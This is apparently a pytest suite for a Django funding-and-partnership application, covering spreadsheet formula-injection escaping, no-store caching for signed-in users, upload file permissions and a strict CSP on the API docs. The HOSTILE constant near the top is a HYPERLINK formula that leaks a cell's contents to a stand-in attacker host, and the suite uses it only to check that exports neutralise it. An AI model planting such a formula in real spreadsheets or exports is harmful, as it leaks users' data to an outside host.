"""Hygiene (issue 14): spreadsheet cells, no-store for signed-in people, media modes,
the API docs under the strict CSP."""

from __future__ import annotations

import csv
import io
import re
import stat
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from alliance.core.spreadsheet import FORMULA_STARTS, csv_text, safe_cell
from alliance.funding import actions as funding_actions
from tests.factories import admitted_partnership

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):  # type: ignore[no-untyped-def]
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised(start: str) -> None:
    value = f"{start}1+1"
    assert safe_cell(value) == "'" + value
    rows = list(csv.reader(io.StringIO(csv_text(["h"], [[value]]), newline="")))
    assert rows == [["h"], ["'" + value]]


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert safe_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert safe_cell(-3) == -3
    assert safe_cell("Amani Aid - Kenya") == "Amani Aid - Kenya"
    assert csv_text(["n"], [[Decimal("-1.00")]]).splitlines()[1] == "-1.00"


def _hostile_partner(alice, sam):  # type: ignore[no-untyped-def]
    return admitted_partnership(alice, sam, legal_name=HOSTILE)


def test_register_csv_neutralises_applicant_text(client, alice, sam) -> None:
    partner = _hostile_partner(alice, sam)
    body = client.get("/register.csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    names = [r["name"] for r in rows]
    assert names == ["'" + partner.organisation.legal_name]
    assert not any(v.startswith(FORMULA_STARTS) for r in rows for v in r.values())


def test_funding_exports_neutralise_applicant_text(client, login, alice, sam) -> None:
    partner = _hostile_partner(alice, sam)
    funding_actions.budget_set(actor=sam, year=2026, lines=[("Secretariat", Decimal("1000"))])
    funding_actions.pledge_record(
        actor=sam,
        organisation=partner.organisation,
        total=Decimal("900"),
        currency="USD",
        rate_to_base=Decimal("1"),
        start=date(2026, 1, 1),
        years=1,
        per_year=1,
    )
    login(sam)
    body = client.get(reverse("funding:export_csv", args=["pledges"])).content.decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1][0] == "'" + HOSTILE
    workbook = load_workbook(io.BytesIO(client.get(reverse("funding:export_xlsx")).content))
    sheet = workbook["pledges"]
    assert sheet.cell(row=2, column=1).value == "'" + HOSTILE
    assert sheet.cell(row=2, column=1).data_type == "s"  # text, not a formula
    for name in workbook.sheetnames:
        for row in workbook[name].iter_rows():
            for cell in row:
                assert cell.data_type != "f", (name, cell.coordinate, cell.value)


def test_signed_in_pages_and_downloads_are_not_stored(client, login, alice, sam) -> None:
    _hostile_partner(alice, sam)
    anonymous = client.get("/register.csv")
    assert "no-store" not in anonymous.get("Cache-Control", "")
    login(sam)
    for url in (
        reverse("web:dashboard"),
        reverse("funding:export_xlsx"),
        "/register.csv",  # public, but a signed-in response is never kept
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        directives = {d.strip() for d in response["Cache-Control"].split(",")}
        assert {"no-store", "private"} <= directives, (url, directives)
        assert "public" not in directives


def _mode(path: str | Path) -> int:
    return stat.S_IMODE(Path(path).stat().st_mode)


def test_uploaded_evidence_is_not_world_readable(client, login, alice, sam, settings) -> None:
    partner = admitted_partnership(alice, sam)
    login(sam)
    pdf = SimpleUploadedFile("evidence.pdf", b"%PDF-1.4\n%%EOF\n", content_type="application/pdf")
    response = client.post(
        reverse("funding:in_kind_new"),
        {
            "organisation": partner.organisation.pk,
            "category": "convening",
            "description": "Regional workshop",
            "declared_value": "8000",
            "currency": "USD",
            "rate_to_base": "1",
            "delivered_on": "2026-04-01",
            "evidence": pdf,
        },
    )
    assert response.status_code == 302, response.content.decode()[:500]
    files = [p for p in Path(settings.MEDIA_ROOT).rglob("*") if p.is_file()]
    assert files
    for path in files:
        assert _mode(path) == 0o640, path
        assert _mode(path.parent) == 0o750, path.parent


def test_board_packs_are_not_world_readable(client, login, alice, sam, rita) -> None:
    from alliance.diligence.models import BoardPack
    from tests.diligence.helpers import case_for, signed_case

    case = signed_case(case_for(alice), sam, rita)
    login(rita)
    client.post(reverse("diligence:case_action", args=[case.pk, "board-pack"]))
    pack = BoardPack.objects.get(case=case)
    assert _mode(pack.pdf.path) == 0o640


def test_api_docs_are_self_hosted_under_the_csp(client) -> None:
    response = client.get("/api/docs")
    assert response.status_code == 200
    page = response.content.decode()
    scripts = re.findall(r"<script([^>]*)>(.*?)</script>", page, re.S)
    executable = [(attrs, body) for attrs, body in scripts if "application/json" not in attrs]
    assert executable, "Swagger UI scripts"
    for attrs, body in executable:
        assert body.strip() == "", "no inline script"
        src = re.search(r'src="([^"]+)"', attrs)
        assert src and src.group(1).startswith("/static/"), attrs
    assert "cdn" not in page.lower()
    csp = response["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp
    for asset in re.findall(r'(?:src|href)="(/static/[^"]+)"', page):
        assert client.get(asset).status_code == 200, asset
